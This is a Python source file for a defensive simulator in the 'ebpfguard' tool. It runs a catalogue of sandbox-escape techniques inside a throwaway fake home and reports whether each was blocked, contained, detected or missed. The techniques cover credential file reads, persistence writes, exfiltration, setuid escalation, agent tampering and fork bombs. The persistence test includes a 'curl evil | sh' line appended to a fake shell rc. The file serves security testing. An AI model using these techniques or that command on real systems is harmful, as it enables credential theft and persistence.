"""``ebpfguard simulate``: run escape techniques (docs/escapes.md) as throwaway extensions and report,
for each, whether it was blocked, detected, contained or missed.

Everything happens in a world the simulator makes and removes: a temporary folder with its own HOME
(fake SSH keys, browser profile, keyring, autostart, shell rc, systemd user units, crontab), a
"secret" that is world-readable so that only ebpfguard's layers can keep an extension from it, a
stand-in for the agent (a root process to kill), a same-user sibling (to ptrace) and loopback
listeners as network targets. Each technique is one action of the ``sim/egact`` helper, run as
``ebpfguard run`` runs an extension: unprivileged, no_new_privs, Landlock, seccomp, its own cgroup
with the manifest's caps, and the eBPF programs watching.

Outcome of a technique, decided by its side effect, never by exit codes alone:
  blocked    the effect did not happen and the process lives on (EPERM/EACCES or a cap)
  contained  the effect did not happen and the process was stopped (killed, frozen)
  detected   the effect happened, and a forensic record says so (audit mode, or an `alert` response)
  missed     the effect happened, and nothing recorded it
  skipped    not run: a desktop service it needs (dbus-daemon, Xvfb, ssh-agent) is not installed

The desktop techniques talk to real services from Debian that the simulator starts for them and stops
afterwards: a session dbus-daemon (with dbus-test-tool services standing at org.freedesktop.systemd1
and an ungranted name, and dbus-monitor to see what reaches them), an Xvfb display, an ssh-agent
holding a fresh key.
"""

from __future__ import annotations

import contextlib
import errno
import json
import os
import shutil
import signal
import socket
import stat
import struct
import subprocess
import tempfile
import uuid
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING, Any

from ebpfguard.common.resources import data_root
from ebpfguard.common.statedir import StateDir
from ebpfguard.errors import EbpfguardError, ManifestError
from ebpfguard.instance.lineage import exits
from ebpfguard.lab.desktop import FORBIDDEN_NAME, GRANTED_NAME, POINTER_TARGET, SYSTEMD_NAME, Desktop
from ebpfguard.manifest.load import Manifest, parse
from ebpfguard.manifest.syscall_table import SYSCALLS_X86_64

if TYPE_CHECKING:
    from ebpfguard.runtime.engine import Engine

SECRET = "SECRET-BYTES"
PIDS_CAP, MEMORY_CAP_MI, FORKS, BOMB_MB = 32, 64, 256, 512
AF_PACKET, ETH_P_ALL_BE = 17, 0x0300  # htons(ETH_P_ALL)

DEFAULT_MANIFEST = """apiVersion: ebpfguard.io/v1
kind: Extension
metadata: {{name: sim-plugin, version: "1"}}
spec:
  mode: enforce
  filesystem:
    read: ["{plugin}/"]
    write: ["{cache}/", "{markers}/"]
    exec: ["{helper}", "{setuid}", "{fcaps}"]
  network:
    connect: ["127.0.0.1/32:{allowed_port}/tcp"]
  response: {{file: block, exec: block, network: block, syscall: block, privilege: block, quarantine: true}}
  resources: {{pids: {pids}, memory: {memory}Mi}}
"""


# ---- the world ---------------------------------------------------------------------------------
def listener_saw(s: socket.socket, timeout: float = 0.0) -> bool:
    """Did this loopback listener get a connection (TCP) or a datagram (UDP) within ``timeout``
    seconds? Drains what it got, so the next question starts clean."""
    if timeout:
        s.settimeout(timeout)
    else:
        s.setblocking(False)
    def take() -> None:
        if s.type == socket.SOCK_DGRAM:
            s.recv(512)
        else:
            conn, _ = s.accept()
            conn.close()

    try:
        take()
    except (TimeoutError, BlockingIOError):
        return False
    s.setblocking(False)
    while True:  # and whatever else is queued
        try:
            take()
        except (TimeoutError, BlockingIOError):
            return True



@dataclass
class World:
    base: Path
    helper: Path
    listeners: dict[str, socket.socket] = field(default_factory=dict)
    procs: dict[str, subprocess.Popen[bytes]] = field(default_factory=dict)
    desktop: Desktop | None = None

    @property
    def session(self) -> Desktop:
        if self.desktop is None:
            raise EbpfguardError("the desktop services were not started")
        return self.desktop

    @property
    def home(self) -> Path:
        return self.base / "home"

    @property
    def plugin(self) -> Path:
        return self.base / "plugin"

    @property
    def cache(self) -> Path:
        return self.base / "cache"

    @property
    def secret(self) -> Path:
        return self.base / "secret" / "s.txt"

    @property
    def bin(self) -> Path:
        return self.base / "bin"

    def port(self, name: str) -> int:
        return int(self.listeners[name].getsockname()[1])

    def saw(self, name: str) -> bool:
        """Did loopback listener ``name`` get a connection or a datagram? (Drains it.)"""
        return listener_saw(self.listeners[name])

    def alive(self, name: str) -> bool:
        return self.procs[name].poll() is None


SECRETS = {  # under HOME: what credential thieves go for
    ".ssh/id_ed25519": f"-----BEGIN OPENSSH PRIVATE KEY-----\n{SECRET}\n",
    ".mozilla/firefox/sim.default-release/logins.json": f'{{"logins": "{SECRET}"}}\n',
    ".config/google-chrome/Default/Login Data": f"{SECRET}\n",
    ".local/share/keyrings/login.keyring": f"{SECRET}\n",
    ".bashrc": "# the user's shell rc\n",
}


WORLD_PARENT = Path("/var/lib/ebpfguard-sim")


@contextmanager
def world() -> Iterator[World]:
    """The simulator's throwaway world, removed on the way out."""
    # Not under /tmp or /var/tmp: every instance sees those as private and empty, and the world's HOME must
    # be what a real HOME is to an extension, reachable and read-only outside its write trees.
    WORLD_PARENT.mkdir(mode=0o755, exist_ok=True)
    base = Path(tempfile.mkdtemp(prefix="world-", dir=WORLD_PARENT))
    w = World(base, base / "bin" / "egact")
    try:
        base.chmod(0o755)
        for d in (w.plugin, w.cache, w.secret.parent, w.bin, base / "markers", w.home / ".config" / "autostart",
                  w.home / ".config" / "systemd" / "user", base / "spool" / "cron" / "crontabs"):
            d.mkdir(parents=True, exist_ok=True)
        for rel, text in SECRETS.items():
            (w.home / rel).parent.mkdir(parents=True, exist_ok=True)
            (w.home / rel).write_text(text)
        (w.plugin / "main.js").write_text("// the plug-in's own code\n")
        w.secret.write_text(SECRET + "\n")
        (base / "root-only").write_text(SECRET + "\n")
        for f in sorted(base.rglob("*")):  # reachable by file permissions: only ebpfguard stands in the way
            if f.name == "root-only":
                f.chmod(0o600)
            else:
                f.chmod(0o777 if f.is_dir() else 0o666)
        gcc = shutil.which("gcc")
        if gcc is None:
            raise EbpfguardError("the simulator builds its helper with gcc; install gcc (make setup does)")
        subprocess.run([gcc, "-static", "-O1", "-pthread", "-o", str(w.helper), str(data_root() / "sim" / "egact.c")],
                       check=True, capture_output=True)
        w.helper.chmod(0o755)
        setuid = w.bin / "egact-setuid"
        shutil.copy2(w.helper, setuid)
        os.chown(setuid, 0, 0)
        setuid.chmod(0o4755)
        fcaps = w.bin / "egact-fcaps"
        shutil.copy2(w.helper, fcaps)
        fcaps.chmod(0o755)
        # file capability CAP_DAC_READ_SEARCH (2), effective and permitted (struct vfs_cap_data, revision 2)
        os.setxattr(fcaps, "security.capability", struct.pack("<IIIII", 0x02000001, 1 << 2, 0, 0, 0))
        for name, family, kind in (("allowed", socket.AF_INET, socket.SOCK_STREAM),
                                   ("tcp4", socket.AF_INET, socket.SOCK_STREAM),
                                   ("tcp6", socket.AF_INET6, socket.SOCK_STREAM),
                                   ("udp", socket.AF_INET, socket.SOCK_DGRAM),
                                   ("dns", socket.AF_INET, socket.SOCK_DGRAM)):
            s = socket.socket(family, kind)
            s.bind(("::1" if family == socket.AF_INET6 else "127.0.0.1", 0))
            if kind == socket.SOCK_STREAM:
                s.listen(16)
            w.listeners[name] = s
        # unix sockets served outside every extension, as ssh-agent, the journal and docker.sock are
        (base / "run").mkdir(mode=0o755)
        for name, kind in (("agent.sock", socket.SOCK_STREAM), ("log.sock", socket.SOCK_DGRAM),
                           ("docker.sock", socket.SOCK_STREAM)):
            s = socket.socket(socket.AF_UNIX, kind)
            s.bind(str(base / "run" / name))
            os.chmod(base / "run" / name, 0o777)  # reachable by file permissions
            if kind == socket.SOCK_STREAM:
                s.listen(16)
            w.listeners[name] = s
        w.procs["guard"] = subprocess.Popen(["sleep", "600"])  # a root process standing in for the agent
        yield w
    finally:
        for p in w.procs.values():
            p.kill()
            p.wait()
        for s in w.listeners.values():
            s.close()
        shutil.rmtree(base, ignore_errors=True)
        with contextlib.suppress(OSError):
            WORLD_PARENT.rmdir()  # only when no other simulation is running


# ---- techniques --------------------------------------------------------------------------------
@dataclass
class Run:
    status: int            # exit status as a shell reports it: 128+N when killed by signal N
    rc: int | None         # the action's return value (None: the process never got to report it)
    err: int
    t0: int                # CLOCK_REALTIME ns before and after the action
    t1: int
    output: str            # what the action read
    output2: str | None    # the marker of an exec'd program, if it ran
    records: list[dict[str, Any]]
    state: str             # the instance's state when the action was done: running, frozen, killed

    def violations(self) -> list[dict[str, Any]]:
        return [r for r in self.records if r.get("kind") not in ("lifecycle", "checkpoint")]


@dataclass
class Technique:
    id: str
    category: str
    title: str
    args: Callable[[World, Any], list[str]]      # egact arguments, given the world and the instance
    effect: Callable[[World, Run], bool]          # did the escape's side effect happen?
    cleanup: Callable[[World], None] = lambda w: None
    layer: str = ""                               # what stops it when no record names an action
    needs: str = ""                               # a desktop service (DESKTOP_TOOLS)


def _leaked(w: World, r: Run) -> bool:
    return SECRET in r.output or SECRET in (r.output2 or "")


def _rc_ok(w: World, r: Run) -> bool:
    return r.rc is not None and r.rc >= 0


def _exists(rel: str) -> Callable[[World, Run], bool]:
    return lambda w, r: (w.base / rel).exists()


def _appended(rel: str) -> Callable[[World, Run], bool]:
    return lambda w, r: "evil" in (w.base / rel).read_text(errors="replace")


def _unlink(rel: str) -> Callable[[World], None]:
    return lambda w: (w.base / rel).unlink(missing_ok=True)


def _copy_helper(w: World) -> str:
    copy = w.cache / "renamed-tool"
    shutil.copy2(w.helper, copy)
    copy.chmod(0o777)
    return str(copy)


def _nr(name: str) -> str:
    return str(SYSCALLS_X86_64[name])


TECHNIQUES: list[Technique] = [
    # -- filesystem bypasses of path-string matching
    Technique("fs-dotdot", "bypass", "relative ../ path from an allowed folder",
              lambda w, i: ["chdir-read", str(w.plugin), "../secret/s.txt"], _rc_ok),
    Technique("fs-dirfd", "bypass", "openat() with a dirfd of the forbidden folder",
              lambda w, i: ["readat", str(w.secret.parent), "s.txt"], _rc_ok),
    Technique("fs-symlink", "bypass", "symlink in the cache to the secret, then read it",
              lambda w, i: ["symlink-read", str(w.secret), str(w.cache / "link")], _leaked,
              lambda w: (w.cache / "link").unlink(missing_ok=True)),
    Technique("fs-hardlink", "bypass", "hardlink in the cache to the secret, then read it",
              lambda w, i: ["hardlink-read", str(w.secret), str(w.cache / "hlink")], _leaked,
              lambda w: (w.cache / "hlink").unlink(missing_ok=True)),
    Technique("fs-proc-root", "bypass", "read through /proc/self/root/...",
              lambda w, i: ["read", f"/proc/self/root{w.secret}"], _leaked),
    Technique("fs-opath-reopen", "bypass", "O_PATH open, then reopen /proc/self/fd/N for reading",
              lambda w, i: ["opath-reopen", str(w.secret)], _leaked),
    Technique("fs-io-uring", "bypass", "io_uring (openat through the ring, unseen by syscall hooks)",
              lambda w, i: ["io-uring"], _rc_ok),
    Technique("fs-toctou", "bypass", "a thread flips the path buffer while open() runs",
              lambda w, i: ["toctou", str(w.plugin / "main.js"), str(w.secret), "20000"],
              lambda w, r: r.rc is not None and r.rc > 0),
    Technique("exec-renamed", "bypass", "exec of a copied, renamed binary",
              lambda w, i: ["exec", _copy_helper(w), "{marker2}", "noop"], lambda w, r: r.output2 is not None,
              lambda w: (w.cache / "renamed-tool").unlink(missing_ok=True)),
    Technique("exec-memfd", "bypass", "memfd_create(), the first step of a fileless exec",
              lambda w, i: ["memfd"], _rc_ok),
    # -- credential theft
    Technique("cred-ssh", "credentials", "read ~/.ssh/id_ed25519",
              lambda w, i: ["read", str(w.home / ".ssh/id_ed25519")], _leaked),
    Technique("cred-browser", "credentials", "read the browser's saved logins",
              lambda w, i: ["read", str(w.home / ".mozilla/firefox/sim.default-release/logins.json")], _leaked),
    Technique("cred-keyring", "credentials", "read the login keyring",
              lambda w, i: ["read", str(w.home / ".local/share/keyrings/login.keyring")], _leaked),
    # -- persistence
    Technique("persist-autostart", "persistence", "write ~/.config/autostart/evil.desktop",
              lambda w, i: ["write", str(w.home / ".config/autostart/evil.desktop")],
              _exists("home/.config/autostart/evil.desktop"), _unlink("home/.config/autostart/evil.desktop")),
    Technique("persist-shellrc", "persistence", "append to ~/.bashrc",
              lambda w, i: ["append", str(w.home / ".bashrc"), "curl evil | sh # evil\n"], _appended("home/.bashrc")),
    Technique("persist-systemd-user", "persistence", "write a systemd user unit",
              lambda w, i: ["write", str(w.home / ".config/systemd/user/evil.service")],
              _exists("home/.config/systemd/user/evil.service"), _unlink("home/.config/systemd/user/evil.service")),
    Technique("persist-cron", "persistence", "write a crontab (the simulator's own spool folder)",
              lambda w, i: ["write", str(w.base / "spool/cron/crontabs/user")],
              _exists("spool/cron/crontabs/user"), _unlink("spool/cron/crontabs/user")),
    Technique("persist-plant", "persistence", "plant a file in the plug-in's own read-only code",
              lambda w, i: ["write", str(w.plugin / "planted.js")], _exists("plugin/planted.js"),
              _unlink("plugin/planted.js")),
    # -- exfiltration
    Technique("exfil-tcp", "exfiltration", "TCP connect to a port the manifest does not allow",
              lambda w, i: ["connect4", str(w.port("tcp4"))], lambda w, r: w.saw("tcp4")),
    Technique("exfil-tcp6", "exfiltration", "TCP connect over IPv6",
              lambda w, i: ["connect6", str(w.port("tcp6"))], lambda w, r: w.saw("tcp6")),
    Technique("ipc-agent-socket", "ipc", "use an agent's unix socket (ssh-agent, gpg-agent)",
              lambda w, i: ["unix-connect", str(w.base / "run/agent.sock"), "sign-this"],
              lambda w, r: w.saw("agent.sock")),
    Technique("ipc-root-helper", "ipc", "talk to a root helper's socket (a docker.sock-like one)",
              lambda w, i: ["unix-connect", str(w.base / "run/docker.sock"), "POST /containers/create"],
              lambda w, r: w.saw("docker.sock")),
    Technique("ipc-log-dgram", "ipc", "a datagram to a log or notify socket",
              lambda w, i: ["unix-dgram", str(w.base / "run/log.sock"), "<13>forged"], lambda w, r: w.saw("log.sock")),
    Technique("ipc-dbus-systemd", "ipc", "ask systemd --user for a transient unit (StartTransientUnit)",
              lambda w, i: ["dbus-call", "-", SYSTEMD_NAME, "/org/freedesktop/systemd1",
                            "org.freedesktop.systemd1.Manager", "StartTransientUnit"],
              lambda w, r: w.session.bus_saw("StartTransientUnit", SYSTEMD_NAME), needs="dbus"),
    Technique("ipc-dbus-name", "ipc", "call a session-bus name the manifest does not grant",
              lambda w, i: ["dbus-call", "-", FORBIDDEN_NAME, "/org/ebpfguard/Sim", FORBIDDEN_NAME, "Ping"],
              lambda w, r: w.session.bus_saw("Ping", FORBIDDEN_NAME), needs="dbus"),
    Technique("ipc-dbus-real-bus", "ipc", "connect to the real session bus socket, around the proxy",
              lambda w, i: ["dbus-call", str(w.session.bus_path), SYSTEMD_NAME, "/org/freedesktop/systemd1",
                            "org.freedesktop.systemd1.Manager", "StartTransientUnit"],
              lambda w, r: w.session.bus_saw("StartTransientUnit", SYSTEMD_NAME), needs="dbus"),
    Technique("ipc-x11-windows", "ipc", "list the windows of the user's X display",
              lambda w, i: ["x11-list", w.session.x_socket], _rc_ok, needs="x11"),
    Technique("ipc-x11-inject", "ipc", "inject input into the X display (XTEST pointer motion)",
              lambda w, i: ["x11-move", w.session.x_socket, *map(str, POINTER_TARGET)],
              lambda w, r: w.session.pointer() == POINTER_TARGET, needs="x11"),
    Technique("ipc-ssh-agent", "ipc", "have the user's ssh-agent sign with the user's key",
              lambda w, i: ["agent-sign", str(w.session.agent_socket)], lambda w, r: r.rc is not None and r.rc > 0,
              needs="ssh-agent"),
    Technique("meta-chmod-key", "metadata", "chmod 644 the user's private key (outside the write trees)",
              lambda w, i: ["chmod", str(w.home / ".ssh/id_ed25519"), "644"],
              lambda w, r: stat.S_IMODE((w.home / ".ssh/id_ed25519").stat().st_mode) == 0o644),
    Technique("meta-backdate-rc", "metadata", "back-date ~/.bashrc (utimensat)",
              lambda w, i: ["utimes", str(w.home / ".bashrc"), "86400"],
              lambda w, r: int((w.home / ".bashrc").stat().st_mtime) == 86400),
    Technique("meta-xattr-rc", "metadata", "set an extended attribute on ~/.bashrc",
              lambda w, i: ["setxattr", str(w.home / ".bashrc"), "user.evil", "1"],
              lambda w, r: "user.evil" in os.listxattr(w.home / ".bashrc")),
    Technique("exfil-udp", "exfiltration", "UDP datagram to a forbidden port",
              lambda w, i: ["udp4", str(w.port("udp"))], lambda w, r: w.saw("udp")),
    Technique("exfil-dns", "exfiltration", "data in a DNS query to a resolver it may not use",
              lambda w, i: ["udp4", str(w.port("dns"))], lambda w, r: w.saw("dns")),
    Technique("exfil-raw", "exfiltration", "raw IP socket (hand-made packets, ICMP tunnels)",
              lambda w, i: ["socket", str(int(socket.AF_INET)), str(int(socket.SOCK_RAW)), "1"], _rc_ok),
    Technique("exfil-packet", "exfiltration", "packet socket (below IP: sniffing, spoofing)",
              lambda w, i: ["socket", str(AF_PACKET), str(int(socket.SOCK_RAW)), str(ETH_P_ALL_BE)], _rc_ok),
    # -- privilege escalation
    Technique("priv-setuid", "privilege", "exec a setuid-root binary",
              lambda w, i: ["exec", str(w.bin / "egact-setuid"), "{marker2}", "whoami"],
              lambda w, r: r.output2 is not None and r.output2.split()[0] == "0"),
    Technique("priv-fcaps", "privilege", "exec a binary with file capabilities (cap_dac_read_search)",
              lambda w, i: ["exec", str(w.bin / "egact-fcaps"), "{marker2}", "read", str(w.base / "root-only")],
              _leaked),
    Technique("priv-userns", "privilege", "unshare(CLONE_NEWUSER): root in a new user namespace",
              lambda w, i: ["unshare-user"], _rc_ok),
    Technique("priv-userns-clone", "privilege", "clone(CLONE_NEWUSER): the same namespace by another syscall",
              lambda w, i: ["clone-newuser"], _rc_ok),
    Technique("priv-ptrace", "privilege", "ptrace a same-user process outside the extension",
              lambda w, i: ["ptrace", str(w.procs["sibling"].pid)], _rc_ok),
    # -- tampering with the agent
    Technique("agent-kill", "tampering", "SIGKILL the guard's process",
              lambda w, i: ["kill", str(w.procs["guard"].pid), str(int(signal.SIGKILL))],
              lambda w, r: not w.alive("guard")),
    Technique("agent-bpf", "tampering", "bpf() to inspect or detach the guard's programs",
              lambda w, i: ["sys", _nr("bpf"), "0", "0", "0"], _rc_ok),
    Technique("agent-ptrace", "tampering", "ptrace the guard's process",
              lambda w, i: ["ptrace", str(w.procs["guard"].pid)], _rc_ok),
    Technique("agent-log", "tampering", "write the forensic log",
              lambda w, i: ["append", i.state_log, "forged\n"], _rc_ok),
    # -- cgroup escape
    Technique("cgroup-escape", "cgroup", "write its pid into the root cgroup's cgroup.procs",
              lambda w, i: ["cgroup-move", "/sys/fs/cgroup/unified/cgroup.procs"], _rc_ok),
    Technique("cgroup-raise", "cgroup", "raise its own pids cap",
              lambda w, i: ["raise", i.pids_max, "max"], _rc_ok),
    # -- resource exhaustion
    Technique("dos-forkbomb", "resources", f"fork bomb ({FORKS} processes)",
              lambda w, i: ["forkbomb", str(FORKS)], lambda w, r: r.rc is not None and r.rc >= FORKS),
    Technique("dos-membomb", "resources", f"memory bomb ({BOMB_MB} MiB)",
              lambda w, i: ["membomb", str(BOMB_MB)], lambda w, r: r.rc is not None and r.rc >= BOMB_MB),
]
LAYERS = {  # what stops a technique that leaves no record (the record's actions say it otherwise)
    "priv-setuid": "no_new_privs", "priv-fcaps": "no_new_privs", "exfil-raw": "user (no CAP_NET_RAW)",
    "exfil-packet": "user (no CAP_NET_RAW)", "agent-kill": "user (not the agent's uid)", "agent-log": "user",
    "agent-ptrace": "user", "cgroup-raise": "user", "fs-toctou": "landlock", "priv-ptrace": "seccomp",
    "priv-userns-clone": "seccomp (clone flags)",
}
for _t in TECHNIQUES:
    _t.layer = LAYERS.get(_t.id, "")
BY_ID = {t.id: t for t in TECHNIQUES}


# ---- running ----------------------------------------------------------------------------------
@dataclass
class Target:
    """What an args builder may name about the instance it runs in."""
    state_log: str
    pids_max: str


def execute(engine: Engine, m: Manifest, argv: list[str], *, mode: str | None = None, sandbox: bool = True,
            timeout: float = 20.0, on_instance: Callable[[Any], list[str]] | None = None,
            shadow: Manifest | None = None) -> tuple[int, int, list[dict[str, Any]], str]:
    """Run ``argv`` as one extension instance through the launch loop (runtime/launch.py), ended once the ladder
    froze it, and return (exit status, pid, the records it caused, its last state)."""
    from ebpfguard.runtime.launch import LaunchOptions, launch  # noqa: PLC0415

    ended = launch(engine, m, argv, LaunchOptions(mode=mode, sandbox=sandbox, shadow=shadow, on_instance=on_instance,
                                                  timeout=timeout, stop_when_frozen=True))
    if ended.timed_out:
        raise EbpfguardError(f"{argv[2:4]} did not finish in {timeout:.0f} s")
    return ended.status, ended.pid, ended.records, ended.state


@dataclass
class Outcome:
    id: str
    category: str
    title: str
    outcome: str            # blocked | contained | detected | missed
    by: str                 # the layer(s) that acted, as the record says, or the errno
    latency_us: float | None
    seq: int | None
    detail: str = ""

    def as_dict(self) -> dict[str, Any]:
        return dict(self.__dict__)


def judge(t: Technique, w: World, r: Run) -> Outcome:
    happened = t.effect(w, r)
    v = r.violations()
    first = v[0] if v else None
    actions = sorted({a for rec in v for a in rec.get("actions") or []})
    killed = r.status in (128 + signal.SIGKILL, 128 + signal.SIGSYS) or r.state == "killed"
    if happened:
        outcome = "detected" if v else "missed"
    elif killed or r.state == "frozen":
        outcome = "contained"
    else:
        outcome = "blocked"
    if t.category == "resources" and not happened:
        outcome = "contained"  # inside its own cgroup's cap
    if actions:
        by = ",".join(actions)
    elif killed:
        by = f"signal {r.status - 128}"
    else:
        by = t.layer or "-"
        if r.rc is not None and r.rc < 0:
            by += f" ({errno.errorcode.get(r.err, r.err)}, {'recorded' if v else 'no record'})"
    latency = None
    if r.rc is not None and not happened:  # the action ran and came back refused: it took this long
        latency = (r.t1 - r.t0) / 1e3
    elif killed and first is not None and first.get("kind") != "resource":
        # the kernel's violation timestamp to the kernel's exit event (a resource record is written
        # after the fact, so it has no attempt time)
        ends = [ns for _, ns in exits(r.records)]
        if ends:
            latency = (max(ends) - _ns(first)) / 1e3
    elif first is not None and "response_ns" in first:
        latency = first["response_ns"] / 1e3
    detail = "; ".join(f"{x['kind']} {x['verdict']} {json.dumps(x.get('detail'), sort_keys=True)[:80]}" for x in v[:2])
    return Outcome(t.id, t.category, t.title, outcome, by, latency, first.get("seq") if first else None, detail)


def _ns(rec: dict[str, Any]) -> int:
    from ebpfguard.forensics import record_ns  # noqa: PLC0415

    return record_ns(rec) or 0


def _parse_marker(path: Path) -> tuple[int | None, int, int, int, str]:
    try:
        text = path.read_text(errors="replace")
    except FileNotFoundError:
        return None, 0, 0, 0, ""
    head, _, rest = text.partition("\n")
    f = head.split()
    return int(f[0]), int(f[1]), int(f[2]), int(f[3]), rest


def sim_manifest(w: World, manifest: Path | None) -> Manifest:
    """The simulator's typical plug-in, or the author's manifest (with HOME pointing at the
    simulator's) plus what the simulation needs: its helpers' exec and its marker folder's write.
    The typical plug-in talks to one session-bus name of its own when the simulator runs a bus."""
    if manifest is None:
        raw = DEFAULT_MANIFEST.format(plugin=w.plugin, cache=w.cache, markers=w.base / "markers", helper=w.helper,
                                      setuid=w.bin / "egact-setuid",
                                      fcaps=w.bin / "egact-fcaps", allowed_port=w.port("allowed"), pids=PIDS_CAP,
                                      memory=MEMORY_CAP_MI)
        if w.desktop is not None and w.desktop.bus_path.exists():
            raw += f"  ipc:\n    dbus: {{session: {{talk: [{GRANTED_NAME}]}}}}\n"
        return parse(raw.encode(), "sim-plugin.yaml", home=str(w.home))
    parse(manifest.read_bytes(), str(manifest), home=str(w.home))  # its own errors, against its own lines
    import yaml  # noqa: PLC0415

    doc = yaml.safe_load(manifest.read_bytes())
    fs = doc.setdefault("spec", {}).setdefault("filesystem", {})
    fs.setdefault("exec", []).extend([str(w.helper), str(w.bin / "egact-setuid"), str(w.bin / "egact-fcaps")])
    fs.setdefault("write", []).append(f"{w.base}/markers/")
    try:
        return parse(yaml.safe_dump(doc).encode(), str(manifest), home=str(w.home))
    except ManifestError as err:
        raise EbpfguardError(f"{manifest}: cannot add the simulator's helper to it: {err}") from err


def simulate(state_dir: str, ids: list[str] | None = None, manifest: Path | None = None, mode: str | None = None,
             progress: Callable[[Outcome], None] | None = None) -> list[Outcome]:
    """Run the techniques; their records go to the forensic log under ``state_dir``."""
    from ebpfguard.runtime.engine import Engine  # noqa: PLC0415
    from ebpfguard.sandbox import Sandbox  # noqa: PLC0415

    chosen = [BY_ID[i] for i in ids] if ids else TECHNIQUES
    with world() as w:
        m = sim_manifest(w, manifest)
        sb = Sandbox.prepare(m, mode)
        sb.close()  # a same-user process outside the extension, for ptrace
        w.procs["sibling"] = subprocess.Popen(["sleep", "600"], user=sb.uid)
        for f in [w.home, *w.home.rglob("*")]:  # the user's home is the user's own: DAC lets it chmod
            os.chown(f, sb.uid, sb.gid)
        w.desktop = Desktop(w.base, sb.uid, sb.gid)
        saved_bus = os.environ.get("DBUS_SESSION_BUS_ADDRESS")
        eng = None
        out: list[Outcome] = []
        try:
            w.desktop.start({t.needs for t in chosen if t.needs})
            if w.desktop.bus_path.exists():
                m = sim_manifest(w, manifest)
            eng = Engine(state_dir, bus_addresses={"session": w.desktop.bus_address})
            if w.desktop.bus_path.exists():  # as in a desktop session (the launcher rewrites or drops it)
                os.environ["DBUS_SESSION_BUS_ADDRESS"] = w.desktop.bus_address
            eng.log.checkpoint()  # the key and the log exist before the first technique: its timing is its own
            for t in chosen:
                why = w.desktop.unavailable.get(t.needs) if t.needs else None
                out.append(Outcome(t.id, t.category, t.title, "skipped", why, None, None) if why
                           else _one(eng, w, m, t, mode, state_dir))
                if progress:
                    progress(out[-1])
        finally:
            if saved_bus is None:
                os.environ.pop("DBUS_SESSION_BUS_ADDRESS", None)
            else:
                os.environ["DBUS_SESSION_BUS_ADDRESS"] = saved_bus
            if eng is not None:
                eng.close()
            w.desktop.stop()
    return out


def _one(eng: Engine, w: World, m: Manifest, t: Technique, mode: str | None, state: str) -> Outcome:
    marker = w.base / "markers" / f"{t.id}-{uuid.uuid4().hex[:6]}"
    marker2 = Path(f"{marker}.2")

    def argv(inst: Any) -> list[str]:
        pids = inst.cgroup.v1.get("pids", inst.cgroup.v2) / "pids.max"
        target = Target(state_log=str(StateDir.of(state).records), pids_max=str(pids))
        return [str(w.helper), str(marker), *[a.replace("{marker2}", str(marker2)) for a in t.args(w, target)]]

    if w.desktop is not None:
        w.desktop.mark()
    try:
        status, _, records, st = execute(eng, m, [], mode=mode, on_instance=argv)
        rc, err, t0, t1, output = _parse_marker(marker)
        output2 = marker2.read_text(errors="replace") if marker2.exists() else None
        return judge(t, w, Run(status, rc, err, t0, t1, output, output2, records, st))
    finally:
        t.cleanup(w)


def format_table(results: list[Outcome]) -> str:
    lines = [f"{'TECHNIQUE':<21} {'OUTCOME':<10} {'LATENCY':>10} {'SEQ':>6}  BY"]
    for r in results:
        lat = f"{r.latency_us:.0f}us" if r.latency_us is not None else "-"
        lines.append(f"{r.id:<21} {r.outcome:<10} {lat:>10} {str(r.seq or '-'):>6}  {r.by}")
    counts = {k: sum(1 for r in results if r.outcome == k)
              for k in ("blocked", "contained", "detected", "missed", "skipped")}
    lines.append(f"{len(results)} techniques: " + ", ".join(f"{n} {k}" for k, n in counts.items()))
    return "\n".join(lines)
